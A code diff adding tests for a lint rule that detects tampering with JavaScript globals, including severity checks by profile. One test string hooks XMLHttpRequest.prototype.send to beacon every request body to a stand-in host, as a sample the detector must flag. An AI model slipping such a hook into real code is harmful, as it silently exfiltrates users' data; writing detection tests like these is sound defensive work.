@@ -1,5 +1,8 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
 import rule from '../../rules/no-global-tampering.js';
 import { ruleTester } from '../rule-tester.js';
+import { analyze } from '../../analyzer/engine.js';
 
 ruleTester(rule, {
   valid: [
@@ -20,6 +23,8 @@ ruleTester(rule, {
     "const s = 'JSON.parse = evil'; // console.log = () => {}",
     'Object.defineProperty(exports, "__esModule", { value: true });',
     'Object.assign(window, { myApp: {} });',
+    // Data hanging off host objects (a parameter defaulting to process.stdout.fd).
+    'const destination = (dest = process.stdout.fd) => { dest.dest = normalize(dest.dest); };',
   ],
   invalid: [
     { code: 'JSON.parse = (s) => s;', errors: [{ messageId: 'replace', column: 1, message: '`JSON.parse`' }] },
@@ -68,4 +73,17 @@ ruleTester(rule, {
     { code: 'if (!window.requestAnimationFrame) window.requestAnimationFrame = (cb) => setTimeout(cb, 16);', errors: [{ messageId: 'replace', column: 36, message: 'when missing' }] },
     { code: '(window as any).fetch = spy;', filename: 'a.ts', errors: [{ messageId: 'replace', column: 1 }] },
   ],
+});
+
+describe('no-global-tampering severities by profile', () => {
+  const severities = (code: string, profile: 'audit' | 'recommended') =>
+    analyze(code, { filename: 'x.js', policy: { profile } }).findings.filter((f) => f.ruleId === 'no-global-tampering').map((f) => f.severity);
+  it('warns on a plain wrapper', () => {
+    assert.deepEqual(severities('const orig = window.fetch;\nwindow.fetch = (...a) => orig(...a);', 'audit'), ['warn']);
+  });
+  it('raises a wrapper that forwards data to a network sink to an error', () => {
+    const code = "XMLHttpRequest.prototype.send = function (b) { navigator.sendBeacon('https://x.example', b); };";
+    assert.deepEqual(severities(code, 'audit'), ['error']);
+    assert.deepEqual(severities(code, 'recommended'), ['error']);
+  });
 });
